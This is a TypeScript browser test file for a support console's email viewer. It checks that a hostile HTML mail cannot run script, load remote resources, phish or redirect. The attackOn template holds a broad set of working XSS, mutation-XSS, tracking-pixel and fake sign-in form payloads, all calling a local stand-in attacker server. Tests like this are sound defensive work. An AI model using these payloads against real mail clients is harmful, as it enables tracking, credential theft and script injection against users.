import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { Browsers } from './support/browser.js';
import { AgentAtConsole } from './support/console.js';
import { House } from './support/house.js';
import { sendMail } from './support/post.js';
import { nextStep } from './support/story.js';

const soon = { timeout: 60_000 };
const dot = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** Everything a mail could try: to run, to load, to send, to lead away, to lie over what is around it. */
const attackOn = (spy: string): string => `
  <p id="greeting">Hello, my kettle is broken.</p>
  <script>fetch('${spy}/script'); parent.document.title = 'taken'</script>
  <img src="${spy}/pixel.gif" width="1" height="1">
  <img src="${spy}/photo.png" alt="Far away" onerror="fetch('${spy}/onerror')" srcset="${spy}/srcset.png 2x">
  <img src="cid:kettle@customers" alt="My kettle">
  <img src="javascript:parent.document.title='taken'">
  <a href="javascript:parent.document.title='taken'">Click me</a>
  <a href="https://tulips.example/" ping="${spy}/ping" target="_top">Our shop</a>
  <p style="position:fixed;inset:0;background:url(${spy}/background.png)">All over</p>
  <div style="background-image:url(${spy}/image.png);list-style-image:url(${spy}/list.png)">x</div>
  <table background="${spy}/table.png"><tr><td background="${spy}/cell.png">x</td></tr></table>
  <video poster="${spy}/poster.png" src="${spy}/video.mp4" autoplay></video><audio src="${spy}/audio.mp3"></audio>
  <link rel="stylesheet" href="${spy}/link.css"><style>@import url(${spy}/import.css); * { background: url(${spy}/all.png) }</style>
  <meta http-equiv="refresh" content="0;url=${spy}/refresh"><base href="${spy}/">
  <form action="${spy}/form"><input name="password"><button autofocus>Sign in again</button></form>
  <iframe src="${spy}/frame"></iframe><object data="${spy}/object"></object><embed src="${spy}/embed">
  <svg onload="fetch('${spy}/svg')"><image href="${spy}/svg.png"/><use href="${spy}/use.svg#x"/></svg>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=fetch('${spy}/mxss')&gt;"></mglyph></table></mtext></math>
  <noscript><p title="</noscript><img src=x onerror=fetch('${spy}/noscript')>"></noscript>
  <xmp></xmp/><img src=x onerror="fetch('${spy}/xmp')"></xmp>`;

const isBroken = (image: Locator): Promise<boolean> =>
  image.evaluate((one) => one instanceof HTMLImageElement && one.complete && one.naturalWidth === 0);

describe('a mail that means harm', () => {
  let house: House;
  let browsers: Browsers;
  let spy: Server;
  let attacker: string;
  let page: Page;
  let ana: AgentAtConsole;
  /** Whatever asked the attacker's server. */
  const spied: string[] = [];
  /** Whatever the browser asked for that is not ours. */
  const strayed: string[] = [];

  beforeAll(async () => {
    spy = createServer((request, response) => {
      spied.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*').end(dot);
    });
    await new Promise<void>((resolve) => spy.listen(0, '127.0.0.1', resolve));
    attacker = `http://127.0.0.1:${(spy.address() as AddressInfo).port}`;
    [house, browsers] = await Promise.all([House.start({ args: ['--with-mail'] }), Browsers.start()]);
  });
  afterAll(async () => {
    spy.close();
    await Promise.all([browsers?.close(), house?.end()]);
  });
  beforeEach((context) => nextStep(context, browsers));

  const mailFrame = async (): Promise<Frame> => {
    const frame = await (await page.locator('console-mail iframe').elementHandle())?.contentFrame();
    if (!frame) throw new Error('No mail is shown as it was sent.');
    return frame;
  };

  test('is shown with the picture that came in it, as pictures belong to what is said', async () => {
    page = await browsers.openFor('Ana');
    page.on('request', (request) => {
      const isOurs = request.url().startsWith(house.ready.url) || /^(blob|data):/.test(request.url());
      if (!isOurs) strayed.push(request.url());
    });
    ana = await AgentAtConsole.signIn(page, house, 'Ana');
    await ana.beAvailable();
    await sendMail(house, {
      subject: 'My kettle',
      text: 'Hello, my kettle is broken.',
      html: attackOn(attacker),
      attachments: [{ filename: 'kettle.png', content: dot, cid: 'kettle@customers' }],
    });
    await ana.open((await ana.view('All open')).first());
    await page.locator('console-mail iframe').waitFor();
    const frame = await mailFrame();
    await expect.poll(() => frame.locator('body').textContent(), soon).toContain('my kettle is broken');
    await expect.poll(() => isBroken(frame.getByAltText('My kettle')), soon).toBe(false);
  });

  test('runs nothing, loads nothing, and changes nothing around it', async () => {
    const frame = await mailFrame();
    await frame.waitForLoadState('load');
    expect(await page.title()).not.toContain('taken');
    expect(strayed).toEqual([]);
    expect(spied).toEqual([]);
    const dangerous = 'script, form, input, iframe, object, embed, svg, math, video, audio, link, base';
    expect(await frame.locator(dangerous).count()).toBe(0);
    const overlay = frame.getByText('All over');
    expect(await overlay.evaluate((element) => getComputedStyle(element).position)).toBe('static');
  });

  test('runs nothing when it is clicked either, and its links open outside', async () => {
    const frame = await mailFrame();
    await frame.getByText('Click me').click();
    expect(await page.title()).not.toContain('taken');
    expect(await frame.getByText('Click me').getAttribute('href')).toBeNull();
    const link = frame.getByText('Our shop');
    expect(await link.getAttribute('target')).toBe('_blank');
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(await link.getAttribute('ping')).toBeNull();
  });

  test('could not run in its frame even if the sanitiser had let it through', async () => {
    const frame = await mailFrame();
    await frame.evaluate((address) => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<iframe src="${address}/late"></iframe><img src=x onerror="parent.document.title='taken'">
         <img id="late" src="${address}/late.png">`,
      );
    }, attacker);
    await expect.poll(() => isBroken(frame.locator('#late')), soon).toBe(true);
    expect(await page.title()).not.toContain('taken');
    expect(spied).toEqual([]);
  });

  test('has its pictures asked for by us when the agent wants them, and not inside our own network', async () => {
    await page.getByRole('button', { name: 'Show images' }).press('Enter');
    await page.locator('console-mail .blocked').waitFor({ state: 'detached' });
    const far = (await mailFrame()).getByAltText('Far away');
    await expect.poll(() => far.getAttribute('src'), soon).toMatch(/^remote\//);
    await expect.poll(() => isBroken(far), soon).toBe(true); // it stands on this machine
    expect(strayed.filter((address) => !address.startsWith(attacker))).toEqual([]);
    expect(spied).toEqual([]);
  });

  test('can be had as it came, as a file', async () => {
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Original' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('My kettle.eml');
    expect(await readFile(await download.path(), 'utf8')).toContain('Content-ID: <kettle@customers>');
  });
});
